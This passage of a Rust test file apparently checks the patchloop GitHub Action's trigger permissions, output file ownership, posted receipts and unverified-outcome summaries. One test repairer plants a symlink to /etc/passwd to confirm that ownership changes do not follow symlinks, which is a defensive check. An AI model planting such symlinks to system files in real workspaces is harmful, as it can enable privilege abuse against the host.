    mock.with(|s| {
        s.contents.insert(
            ".github/patchloop.yml".into(),
            format!("{BASE_CONFIG}triggers:\n  comment_min_permission: admin\n"),
        );
    });
    let fake = FakeRepairer::new(verified(PATCH));
    let r = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert!(
        matches!(r.end, ActionEnd::Ignored(ref w) if w.contains("`admin`")),
        "{:?}",
        r.end
    );
    assert_eq!(fake.count(), 0);
    assert!(mock.writes().is_empty());
}

/// Writes outputs into the checkout as the pipeline does (as root here, like the action).
struct WritingRepairer(patchloop::github::RepairOutcome);

#[async_trait::async_trait]
impl Repairer for WritingRepairer {
    async fn repair(&self, req: RepairRequest) -> anyhow::Result<RepairOutcome> {
        let d = req.repo_dir.join(".patchloop").join(&req.head_sha);
        std::fs::create_dir_all(d.join("sub")).unwrap();
        std::fs::write(req.repo_dir.join(".patchloop/.gitignore"), "*\n").unwrap();
        std::fs::write(d.join("patch.diff"), PATCH).unwrap();
        std::fs::write(d.join("sub/trajectory.jsonl"), "{}\n").unwrap();
        std::os::unix::fs::symlink("/etc/passwd", d.join("link")).unwrap();
        Ok(self.0.clone())
    }
}

#[tokio::test]
async fn outputs_left_in_the_workspace_belong_to_the_workspace_owner() {
    use std::os::unix::fs::MetadataExt;
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
    let ws = env.dir.path().join("ws");
    // The runner's user owns the checkout; this test (like the action container) is root.
    std::os::unix::fs::chown(&ws, Some(1001), Some(1002)).unwrap();
    assert_eq!(
        nix_euid(),
        0,
        "this test runs as root, as the action container does"
    );
    let r = run(
        &args(),
        &env.get(),
        &WritingRepairer(verified(PATCH)),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(r.end, ActionEnd::Fixed);
    let mut stack = vec![ws.join(".patchloop")];
    let mut seen = 0;
    while let Some(p) = stack.pop() {
        let m = std::fs::symlink_metadata(&p).unwrap();
        assert_eq!((m.uid(), m.gid()), (1001, 1002), "{}", p.display());
        seen += 1;
        if m.is_dir() {
            stack.extend(std::fs::read_dir(&p).unwrap().map(|e| e.unwrap().path()));
        }
    }
    assert_eq!(seen, 7, "every file and directory was checked");
    let target = std::fs::metadata("/etc/passwd").unwrap();
    assert_eq!(target.uid(), 0, "symlinks are not followed");
}

fn nix_euid() -> u32 {
    use std::os::unix::fs::MetadataExt;
    // The owner of a file just created is the effective uid.
    let f = tempfile::NamedTempFile::new().unwrap();
    f.as_file().metadata().unwrap().uid()
}

/// A receipt as the verifier writes it (`receipt.md`), with the command line it shows.
fn receipt_md() -> String {
    let golden = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/verify/testdata/receipt.md"),
    )
    .unwrap();
    golden.replace(
        "- command: `python3 -I`",
        "- command: `python3 -I -B -c <pl_run.py: sys.path += [/work]> pytest -c <harness ini> \
         --rootdir /work --confcutdir /work -p pl_guard -p no:cacheprovider --junitxml <harness path>`",
    )
}

#[tokio::test]
async fn the_posted_receipt_reads_like_receipt_md() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
    let mut o = verified(PATCH);
    o.receipt_md = receipt_md();
    assert!(o.receipt_md.contains("<harness ini>"));
    let fake = FakeRepairer::new(o.clone());
    let r = run(
        &args(),
        &env.get(),
        fake.as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    let want = o.receipt_md.trim();
    mock.with(|s| {
        let body = &s.comments[0].2;
        assert!(body.contains(want), "posted:\n{body}\nwant:\n{want}");
    });
    assert!(r.summary.contains(want), "{}", r.summary);
}

#[tokio::test]
async fn an_unverified_outcome_says_why_in_the_summary() {
    let mock = MockGitHub::start().await;
    setup_mock(&mock);
    let env = Env::new(&mock, "workflow_run", &workflow_run_payload(|_| {}));
    let o = RepairOutcome {
        verdict: patchloop::github::Outcome::NotVerified,
        patch: PATCH.into(),
        reason: "not fixed: 2 tests still failing (stop reason done, 5 steps, 900 tokens, \
                 $0.0000, 3.0s, model ollama:qwen at http://ollama:11434; finished)"
            .into(),
        ..Default::default()
    };
    let r = run(
        &args(),
        &env.get(),
        FakeRepairer::new(o).as_ref(),
        Arc::new(FakeClock::default()),
        fast_policy(),
    )
    .await
    .unwrap();
    assert_eq!(r.end, ActionEnd::NoFix);
    assert!(
        r.summary
            .contains("Why `not_verified`: not fixed: 2 tests still failing (stop reason done"),
        "{}",
        r.summary
    );
    assert!(
        !r.summary.contains("http://ollama"),
        "no endpoint: {}",
        r.summary
    );
    assert!(
        r.summary.contains("No verification receipt") && !r.summary.contains("<summary>Receipt"),
        "no empty receipt block: {}",
        r.summary
    );
}
